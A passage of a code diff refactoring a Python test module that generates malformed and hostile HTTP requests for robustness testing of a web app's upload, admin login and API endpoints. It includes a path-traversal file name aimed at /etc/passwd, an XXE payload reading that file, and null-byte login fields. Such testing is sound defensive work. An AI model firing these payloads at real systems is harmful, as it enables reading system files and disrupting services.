-            multipart,
-            part.replace(b'filename="%s"', b"filename*=evil''%%ff%s") % (b"", b"a"),
-        ),
-    )
-    yield Hostile(
-        "bad base64",
-        upload(
-            multipart,
-            (part % (b"a.png", b"a*b")).replace(
-                b"\r\n\r\n", b"\r\nContent-Transfer-Encoding: base64\r\n\r\n", 1
-            ),
-        ),
-    )
-    yield Hostile(
-        "unknown charset", upload(multipart + "; charset=evil", part % (b"a.png", b"a"))
-    )
-    yield Hostile(
-        "charset of a part",
-        upload(
-            multipart,
-            (part % (b"a.png", b"a")).replace(b"image/png", b"image/png; charset=evil"),
-        ),
-    )
-    yield Hostile(
-        "charset in an unknown encoding", upload("text/plain; charset*=evil''%ff", b"a")
-    )
-    yield Hostile(
-        "boundary in an unknown encoding",
-        upload("multipart/form-data; boundary*=evil''%ff", b"a"),
-    )
-    yield Hostile(
-        "multipart in multipart",
-        upload(
-            multipart,
-            (part % (b"a.png", b"a")).replace(
-                b"image/png", b"multipart/mixed; boundary=b"
-            ),
-        ),
-    )
-    yield Hostile(
-        "too many fields", upload("application/x-www-form-urlencoded", b"a=b&" * 1100)
-    )
-    yield Hostile(
-        "too many files",
-        upload(
-            multipart,
-            b"".join((part % (b"a.png", b"a"))[:-7] for _ in range(25)) + b"--b--\r\n",
-        ),
-    )
-    yield Hostile(
-        "too large a form",
-        upload("application/x-www-form-urlencoded", b"a=" + b"b" * (3 * 1024 * 1024)),
-    )
-    yield Hostile(
-        "form in an unknown charset",
-        upload("application/x-www-form-urlencoded; charset=evil", b"a=%ff"),
-    )
-    yield Hostile(
-        "form in UTF-16",
-        upload("application/x-www-form-urlencoded; charset=utf-16", b"a=%ff"),
-    )
-    yield Hostile(
-        "form of bytes",
-        upload("application/x-www-form-urlencoded", b"\xff\xfe\0=\0&%zz=%"),
-    )
-    yield Hostile("content type", upload(";;;=;", b"a"))
-    yield Hostile(
-        "content encoding",
-        request("POST", "/drill/upload/", b"a", Content_Encoding="evil"),
-    )
-    log_in = {"Content_Type": "application/x-www-form-urlencoded"}
-    yield Hostile(
-        "log-in with null bytes",
-        request("POST", "/admin/login/", b"username=%00&password=%00", **log_in),
-    )
-    yield Hostile(
-        "log-in with surrogates",
-        request("POST", "/admin/login/", b"username=%ed%a0%80&password=a", **log_in),
-    )
+        yield Hostile(name, upload(content_type, body))
+    boundary = "multipart/form-data; boundary*=evil''%ff"
+    yield Hostile("boundary in an unknown encoding", upload(boundary, b"a"))
+    names = b"../../etc/passwd a\0.png \xff\xfe.png . a.png\\ con.png".split(b" ")
+    for name in (*names, b"a" * 5000 + b".png", b""):
+        raw = upload(f"{multipart}b", part % (name, b"\x89PNG evil"))
+        yield Hostile(f"file name {name[:20]!r}", raw)
+    raw = request("POST", "/drill/upload/", b"a", Content_Encoding="evil")
+    yield Hostile("content encoding", raw)
+    for name, form in {
+        "null bytes": b"username=%00&password=%00",
+        "surrogates": b"username=%ed%a0%80&password=a",
+    }.items():
+        raw = request("POST", "/admin/login/", form, Content_Type=FORM)
+        yield Hostile(f"log-in with {name}", raw)
 
 
 def json_bodies(token: str) -> Iterator[Hostile]:
+    bearer = {"Authorization": f"Bearer {token}"}
     for body in (
-        b"{",
-        b"}",
-        b"[]",
-        b"null",
-        b"evil",
-        b'"evil"',
-        b"NaN",
+        *b'{ } [] null evil "evil" NaN'.split(),
         b'{"first_name": NaN}',
         b'{"first_name": Infinity}',
         b'{"first_name": null}',
@@ -823,29 +570,11 @@ def json_bodies(token: str) -> Iterator[Hostile]:
         b'{"first_name": "a", "first_name": {}}',
         b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
     ):
-        raw = request(
-            "PATCH",
-            ME,
-            body,
-            Content_Type="application/json",
-            Authorization=f"Bearer {token}",
-        )
+        raw = request("PATCH", ME, body, Content_Type="application/json", **bearer)
         yield Hostile(f"JSON {body[:40]!r}", raw)
-    form = request(
-        "PATCH",
-        ME,
-        b"first_name=a",
-        Content_Type="application/x-www-form-urlencoded",
-        Authorization=f"Bearer {token}",
-    )
+    form = request("PATCH", ME, b"first_name=a", Content_Type=FORM, **bearer)
     yield Hostile("form for the API", form)
-    for target in (
-        "/api/v1/users/?page=evil",
-        "/api/v1/users/?page=-1",
-        "/api/v1/users/" + "9" * 400 + "/",
-        "/api/%00/",
-    ):
-        yield Hostile(
-            f"API {target[:40]}",
-            request("GET", target, Authorization=f"Bearer {token}"),
-        )
+    users = "/api/v1/users/"
+    ids = (f"{users}?page=evil", f"{users}?page=-1", f"{users}{'9' * 400}/")
+    for target in (*ids, "/api/%00/"):
+        yield Hostile(f"API {target[:40]}", request("GET", target, **bearer))
